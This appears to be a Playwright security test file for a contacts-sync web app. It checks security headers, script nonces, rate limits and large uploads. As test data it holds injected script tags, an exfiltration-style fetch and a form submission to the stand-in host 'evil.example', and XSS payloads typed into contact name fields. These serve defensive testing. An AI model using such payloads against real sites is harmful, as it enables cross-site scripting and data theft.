// What an attacker would try on our pages, with many requests and with large files. security-sign-in.spec.ts covers signing in and consent.
import { expect } from '@playwright/test'
import { test } from './fixtures/app'
import { useUpLimits } from './fixtures/limits'
import { signIn, signOut, startSignIn } from './fixtures/people'
import { ANA, buildPreview, contactsPanel, person, SYNC_PAGE, setUpSync, startSync } from './fixtures/sync'

const EVIL = 'https://evil.example'

test.describe('every answer', () => {
  const addresses: readonly (readonly [string, number])[] = [
    ['/sign-in', 200],
    ['/contacts', 307],
    ['/nothing/here', 404],
    ['/api/health', 200],
    ['/api/sync/status', 401],
    ['/api/auth/callback/google', 302],
    ['/api/auth/callback/google-contacts', 307],
    ['/icon.svg', 200],
    ['/contacts/import/upload', 405],
  ]
  for (const [address, status] of addresses) {
    test(`${address} says what a browser may do with it`, async ({ request }) => {
      const answer = await request.get(address, { maxRedirects: 0 })
      expect(answer.status()).toBe(status)
      expectHeaders(answer.headers())
    })
  }

  test('of an administrator’s page too, when it is a member who asks', async ({ page, app }) => {
    await signIn(page, ANA)
    await app.database.query(`update "User" set role = 'member'`)
    const answer = await page.goto('/admin/sync')
    expect(answer?.status()).toBe(403)
    expectHeaders(answer?.headers() ?? {})
  })

  test('is not kept by browsers or proxies where it holds contacts', async ({ page }) => {
    await signIn(page, ANA)
    for (const address of ['/contacts', '/contacts/export.vcf', '/api/sync/status']) {
      const answer = await page.request.get(address)
      expect(answer.headers()['cache-control']).toContain('no-store')
    }
  })
})

test('files of the build say it too, but for the content policy, which is for pages', async ({
  page,
  request,
}) => {
  await page.goto('/sign-in')
  const file = await page.locator('script[src]').first().getAttribute('src')
  const answer = await request.get(file ?? '')
  expect(answer.status()).toBe(200)
  expect(answer.headers()).toMatchObject(SAME_FOR_ALL)
})

const SAME_FOR_ALL = {
  'x-content-type-options': 'nosniff',
  'x-frame-options': 'DENY',
  'referrer-policy': 'same-origin',
  'cross-origin-opener-policy': 'same-origin',
  'cross-origin-resource-policy': 'same-origin',
}

function expectHeaders(headers: Readonly<Record<string, string>>): void {
  expect(headers['content-security-policy']).toContain("default-src 'none'")
  expect(headers['content-security-policy']).toContain("frame-ancestors 'none'")
  expect(headers['content-security-policy']).not.toContain('unsafe')
  expect(headers).toMatchObject(SAME_FOR_ALL)
  expect(headers).not.toHaveProperty('x-powered-by')
}

const INJECTED = `<script>window.ran = 'inline'</script>
  <script nonce="guessed">window.ran = 'nonce'</script>
  <script src="/_next/static/../injected.js"></script>
  <script src="${EVIL}/x.js"></script>
  <img src="/none" onerror="window.ran = 'handler'">`

test.describe('scripts', () => {
  test('run with the nonce of their own answer, and no other', async ({ request }) => {
    const nonceOf = async () => {
      const answer = await request.get('/sign-in', {
        headers: { 'content-security-policy': "script-src 'nonce-mine'" },
      })
      const nonce = /'nonce-([^']+)'/.exec(answer.headers()['content-security-policy'] ?? '')?.[1]
      const scripts = (await answer.text()).match(/<script\b[^>]*>/g) ?? []
      expect(scripts.length).toBeGreaterThan(0)
      for (const script of scripts) expect(script).toContain(`nonce="${nonce}"`)
      return nonce
    }
    expect(await nonceOf()).not.toBe(await nonceOf())
  })

  test('that got into a page do not run', async ({ page, refused }) => {
    await page.route('**/sign-in', async (route) => {
      const response = await route.fetch()
      const body = (await response.text()).replace('</main>', `${INJECTED}</main>`)
      await route.fulfill({ response, body })
    })
    await page.goto('/sign-in')
    await expect.poll(() => refused.length).toBeGreaterThanOrEqual(5)
    expect(await page.evaluate(() => (window as { ran?: string }).ran)).toBeUndefined()
    refused.length = 0
  })

  test('and pages that got into a page neither call out nor send forms away', async ({ page, refused }) => {
    await page.goto('/sign-in')
    const called = await page.evaluate(async (evil) => {
      const answer = await fetch(`${evil}/?stolen`).then(
        () => 'answered',
        () => 'refused',
      )
      document.body.insertAdjacentHTML(
        'beforeend',
        `<form id="f" action="${evil}"></form><img src="${evil}/?stolen">`,
      )
      ;(document.getElementById('f') as HTMLFormElement).submit()
      return answer
    }, EVIL)
    expect(called).toBe('refused')
    await expect.poll(() => refused.length).toBeGreaterThanOrEqual(3)
    expect(await page.evaluate(() => location.pathname)).toBe('/sign-in')
    refused.length = 0
  })

  test('written into a contact are shown as what they are', async ({ page }) => {
    await signIn(page, ANA)
    await page.goto('/contacts/new?kind=person')
    await page.getByLabel('First name').fill('<img src=x onerror=alert(1)>')
    await page.getByLabel('Last name').fill('</script><script>alert(1)</script>')
    await page.getByRole('button', { name: 'Save' }).click()
    await expect(page.getByRole('heading', { name: '<img src=x onerror=alert(1)>' })).toBeVisible()
  })
})

// The fixture `refused` looks at the end of every test of every file whether the policy refused anything; this one
// goes through all pages of a sync for it.
test('the pages of a whole sync work without anything that the policy refuses', async ({
  page,
  app,
  refused,
}) => {
  app.google.addAccount({ email: ANA, name: 'Ana Lima' })
  app.google.addPerson({ account: ANA, person: person('Cho', 'Min') })
  await signIn(page, ANA)
  await setUpSync(page, ANA)
  await buildPreview(page)
  await startSync(page)
  for (const address of [
    '/contacts',
    '/contacts/import',
    '/settings/users',
    '/settings/profile',
    '/admin/sync',
    '/none',
  ])
    await page.goto(address)
  await app.database.query('alter table "Contact" rename to "Away"')
  await page.goto('/contacts')
  await expect(page.getByRole('heading', { name: 'This page could not be shown' })).toBeVisible()
  await expect(page.getByText('Away')).toHaveCount(0)
  await app.database.query('alter table "Away" rename to "Contact"')
  await app.database.query('alter table "User" rename to "Away"')
  await page.goto('/contacts')
  await expect(page.getByRole('heading', { name: 'Concord is not available right now' })).toBeVisible()
  await app.database.query('alter table "Away" rename to "User"')
  expect(refused).toEqual([])
})

test('who knocks too often is told for how long to wait, on every server, and nobody else is', async ({
  page,
  app,
  request,
}) => {
  await signIn(page, ANA)
  const attempts = await Promise.all(Array.from({ length: 90 }, () => startSignIn(request, app.url)))
  const refused = attempts.filter((answer) => answer.status() === 429)
  expect(refused.length).toBeGreaterThan(0)
  for (const answer of refused) {
    expect(Number(answer.headers()['retry-after'])).toBeGreaterThan(0)
    expectHeaders(answer.headers())
  }
  const server = await app.beside({ NEXTAUTH_URL: app.url })
  await useUpLimits(app)
  expect((await startSignIn(request, server.url, app.url)).status()).toBe(429)
  await server.stop()
  // Somebody else behind the same proxy, and those who are signed in, go on.
  const elsewhere = { origin: app.url, 'x-forwarded-for': '203.0.113.7' }
  const other = await request.post('/sign-in/google', {
    headers: elsewhere,
    form: { next: '/' },
    maxRedirects: 0,
  })
  expect(other.status()).toBe(302)
  await page.goto(SYNC_PAGE)
  await expect(
    contactsPanel(page)
      .or(page.getByRole('button', { name: 'Set Up Sync' }))
      .first(),
  ).toBeVisible()
  await signOut(page)
  await useUpLimits(app)
  await page.getByRole('button', { name: 'Continue with Google' }).click()
  await expect(page.getByRole('heading', { name: 'Too many attempts' })).toBeVisible()
})

test('a health check that asks without pause is told to wait', async ({ request }) => {
  const answers = await Promise.all(Array.from({ length: 200 }, () => request.get('/api/health')))
  const refused = answers.find((answer) => answer.status() === 429)
  expect(Number(refused?.headers()['retry-after'])).toBeGreaterThan(0)
  expect(await refused?.json()).toMatchObject({ error: 'too many requests' })
})

test('a large file that is allowed comes through whole', async ({ page, app }) => {
  await signIn(page, ANA)
  const card = 'BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ana Lima\r\nEND:VCARD\r\n'
  const picture = `BEGIN:VCARD\r\nFN:Ben Okafor\r\nPHOTO;ENCODING=b:${'A'.repeat(12_000_000)}\r\nEND:VCARD\r\n`
  const answer = await page.request.post('/contacts/import/upload', {
    headers: { origin: app.url },
    multipart: { file: { name: 'a.vcf', mimeType: 'text/vcard', buffer: Buffer.from(picture + card) } },
    maxRedirects: 0,
  })
  await page.goto(answer.headers().location ?? '')
  await expect(page.getByText('2 contacts can be imported')).toBeVisible()
})
